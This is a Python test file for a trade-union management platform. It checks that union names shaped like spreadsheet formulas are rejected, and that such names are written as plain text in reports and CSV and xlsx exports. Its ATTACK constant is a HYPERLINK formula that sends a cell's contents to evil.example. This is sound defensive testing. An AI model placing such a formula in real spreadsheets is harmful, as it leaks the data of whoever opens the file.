"""Formula injection (issue 14, item 4): a union admin named the union `=HYPERLINK(...)` and it became a live formula
in the county's statistical report. Every spreadsheet the product writes goes through unionhub.spreadsheets, and
union names are checked when they are set."""

from __future__ import annotations

import ast
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from unionhub.errors import DomainValidationError

ROOT = Path(__file__).resolve().parents[2]
SAFE_WRITER = ROOT / "platform" / "unionhub" / "spreadsheets.py"
ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def _product_modules():
    for top in ("platform", "tenants", "graphql", "workers"):
        for path in sorted((ROOT / top).rglob("*.py")):
            if "migrations" not in path.parts and path != SAFE_WRITER:
                yield path


def _writer_violations(path: Path) -> list[str]:
    """Ways to put a value into a spreadsheet without the formula-safe writer."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    uses_openpyxl = any(
        (isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"))
        or (isinstance(node, ast.Import) and any(a.name.startswith("openpyxl") for a in node.names))
        for node in ast.walk(tree)
    )
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            for alias in node.names:
                if alias.name in ("Workbook", "WriteOnlyCell"):
                    found.append(f"{path}:{node.lineno} imports openpyxl {alias.name}")
        if isinstance(node, ast.Attribute) and node.attr in ("Workbook", "WriteOnlyCell"):
            found.append(f"{path}:{node.lineno} uses openpyxl.{node.attr}")
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"{path}:{node.lineno} uses csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            if any(alias.name in ("writer", "DictWriter") for alias in node.names):
                found.append(f"{path}:{node.lineno} imports a csv writer")
        if uses_openpyxl and isinstance(node, (ast.Assign, ast.AugAssign)):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            for target in targets:
                if isinstance(target, ast.Attribute) and target.attr == "value":
                    found.append(f"{path}:{node.lineno} sets a cell's .value directly")
                if isinstance(target, ast.Subscript):  # sheet["A1"] = ... on a sheet not from new_workbook
                    found.append(f"{path}:{node.lineno} assigns into a sheet by coordinate")
    return found


def test_no_module_writes_spreadsheet_cells_outside_the_formula_safe_writer():
    violations = [v for path in _product_modules() for v in _writer_violations(path)]
    assert violations == []
    # The scan finds what it looks for (a scan that cannot fail proves nothing).
    sample = ROOT / "tests" / "security" / "_writer_sample.py"
    sample.write_text(
        "import csv\nfrom openpyxl import Workbook\nw = Workbook()\nw.active['A1'] = '=1'\n"
        "c = w.active.cell(1, 1)\nc.value = '=2'\ncsv.writer(None)\n",
        encoding="utf-8",
    )
    try:
        assert len(_writer_violations(sample)) == 4
    finally:
        sample.unlink()


def _report_data(union_name: str):
    from reporting.layout import Column, ReportData, Row, Table

    columns = [Column("members", "会员人数（人）")]
    rows = [Row(union_name, "91330122MA0000000X", "union", {"members": 12})]
    return ReportData(
        node_id=1,
        node_name=union_name,
        division_code="330122",
        period_label="2026",
        period_name="2026年度",
        report_date="2026-09-30",
        recipient_name="示范市总工会",
        snapshot_version=None,
        tables=[Table("表1", "测试", columns, rows)],
    )


def test_a_union_named_like_a_formula_is_text_in_the_statistical_report():
    from reporting.render import render_xlsx, report_data_hash, xlsx_data_hash

    data = _report_data(ATTACK)
    content = render_xlsx(data)
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not any(cell.data_type == "f" for cell in cells)
    named = [cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert named and all(not cell.value.startswith("=") and cell.data_type == "s" for cell in named)
    assert any(cell.value == "'" + ATTACK for cell in named)  # the body row: the name itself, as text
    # The recorded hash still matches the file (it is computed from what the safe writer wrote).
    assert report_data_hash(data) == xlsx_data_hash(content)


def test_dashboard_csv_and_exports_write_the_name_as_text():
    import csv

    from imports.services import export_xlsx
    from web.panels import Panel, panel_csv

    response = panel_csv(
        Panel("p", "面板", ["工会", "会员"], [[ATTACK, 5], ["@SUM(A1)", -3]]), filename="x.csv"
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["工会", "会员"], ["'" + ATTACK, "5"], ["'@SUM(A1)", "-3"]]

    sheet = load_workbook(io.BytesIO(export_xlsx(["名称"], [[ATTACK]]))).worksheets[0]
    assert sheet["A2"].value == "'" + ATTACK and sheet["A2"].data_type == "s"


@pytest.mark.django_db
def test_union_names_are_checked_where_they_are_set(county):
    from federations.services import node_create, union_provision, union_update_profile
    from tests.factories import union_kwargs

    union = union_provision(parent_node=county, **union_kwargs(name="华锐机械厂工会"))
    for bad, code in [
        (ATTACK, "formula_start"),
        ("+8613900000000", "formula_start"),
        ("-工会", "formula_start"),
        ("@工会", "formula_start"),
        ("华锐\n机械厂工会", "control_character"),
        ("华锐\u202e机械厂工会", "control_character"),
    ]:
        with pytest.raises(DomainValidationError) as caught:
            union_update_profile(union=union, name=bad)
        assert [(e.field, e.code) for e in caught.value.errors] == [("name", code)], bad
    union.refresh_from_db()
    assert union.name == "华锐机械厂工会"

    # Unique within the federation tree, a township below the county included; another tree may reuse it.
    township = node_create(level="township", name="城关镇总工会", division_code="330122", parent=county)
    with pytest.raises(DomainValidationError) as caught:
        union_provision(parent_node=township, **union_kwargs(name="华锐机械厂工会"))
    assert [(e.field, e.code) for e in caught.value.errors] == [("name", "unique")]
    other = union_provision(parent_node=township, **union_kwargs(name="鼎盛纺织厂工会"))
    with pytest.raises(DomainValidationError) as caught:
        union_update_profile(union=other, name="华锐机械厂工会")
    assert [(e.field, e.code) for e in caught.value.errors] == [("name", "unique")]
    elsewhere = node_create(level="county", name="邻县总工会", division_code="330127")
    assert union_provision(parent_node=elsewhere, **union_kwargs(name="华锐机械厂工会")).pk
    assert union_update_profile(union=union, name="华锐机械厂工会").name == "华锐机械厂工会"  # itself
